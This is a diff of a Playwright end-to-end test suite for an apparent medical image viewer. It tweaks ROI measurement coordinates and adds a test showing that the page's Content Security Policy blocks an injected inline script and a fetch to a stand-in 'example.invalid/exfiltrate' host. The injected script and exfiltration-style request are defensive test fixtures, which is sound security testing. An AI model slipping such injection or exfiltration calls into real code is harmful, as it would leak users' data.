@@ -149,7 +149,9 @@ async function fullSession(
   await s.screenshot(`${shot}-roi-mirror`);
 
   await page.keyboard.press('d');
-  const dy = edge.y - centre.y || 10;
+  await expect.poll(() => page.getByRole('button', { name: 'Bidirectional' }).getAttribute('aria-pressed')).toBe('true');
+  // Long axis through the ROI along the viewport's vertical, twice the ellipse's extent.
+  const dy = Math.max(Math.abs(edge.y - centre.y), 15);
   await drag(page, { x: centre.x, y: centre.y - 2 * dy }, { x: centre.x, y: centre.y + 2 * dy });
   await expect.poll(() => measurementKinds(page)).toContain('bidirectional');
   await page.getByRole('button', { name: 'First slice here' }).click();
@@ -227,14 +229,53 @@ describe('source folders stay untouched by a full browser session', () => {
       folder,
       (page) => page.getByRole('treeitem', { name: /^Series .*DTI/ }),
       async (page) => {
-        // The matrix centre lies in the brain on this axial series: a 20 × 15 px ellipse there.
+        // 60 px left of the matrix centre lies in the brain on this axial series, clear of the
+        // midline so the mirror does not overlap it: a 20 × 15 px ellipse there.
         const box = (await page.getByTestId('viewport-element-0').boundingBox())!;
-        const centre = { x: box.x + box.width / 2, y: box.y + box.height / 2 };
+        const centre = { x: box.x + box.width / 2 - 60, y: box.y + box.height / 2 };
         return { centre, edge: { x: centre.x + 20, y: centre.y + 15 } };
       },
       'sources-philips',
     );
     await session.close();
     expect(snapshot(folder)).toEqual(before);
+  });
+});
+
+/**
+ * The guard every e2e relies on, proven: the built page enforces its CSP (an injected inline script
+ * and a request to another origin are blocked and reported) and the harness turns a CSP violation or a
+ * console error into a failure. Removing the CSP meta or the harness's listeners fails this.
+ */
+describe('e2e problem collectors', () => {
+  it('a blocked inline script, a blocked foreign request and a console error each fail assertNoProblems', async () => {
+    const s = await suite.open();
+    await s.page.getByRole('button', { name: 'Open demo' }).waitFor();
+    s.assertNoProblems();
+    const ran = await s.page.evaluate(async () => {
+      const w = window as unknown as { __inlineRan?: boolean };
+      const script = document.createElement('script');
+      script.textContent = 'window.__inlineRan = true;';
+      document.head.appendChild(script);
+      const fetched = await fetch('https://example.invalid/exfiltrate').then(
+        () => 'fetched',
+        () => 'blocked',
+      );
+      return { inline: w.__inlineRan === true, fetched };
+    });
+    expect(ran).toEqual({ inline: false, fetched: 'blocked' });
+    await expect.poll(() => s.problems.cspViolations.length).toBeGreaterThanOrEqual(2);
+    expect(s.problems.cspViolations.some((v) => v.startsWith('script-src'))).toBe(true);
+    expect(s.problems.cspViolations.some((v) => v.startsWith('connect-src') && v.includes('example.invalid'))).toBe(true);
+    expect(() => s.assertNoProblems()).toThrow(/CSP violation: script-src/);
+    // Chromium also logs each refusal as a console error; cleared so the next step stands alone.
+    s.problems.cspViolations.length = 0;
+    s.problems.consoleErrors.length = 0;
+    await s.page.evaluate(() => console.error('deliberate e2e console error'));
+    await expect.poll(() => s.problems.consoleErrors.length).toBe(1);
+    expect(() => s.assertNoProblems()).toThrow(/console error: deliberate e2e console error/);
+    // A named exemption covers exactly that message, nothing else.
+    expect(() => s.assertNoProblems([/^deliberate e2e console error$/])).not.toThrow();
+    s.problems.consoleErrors.length = 0;
   });
 });
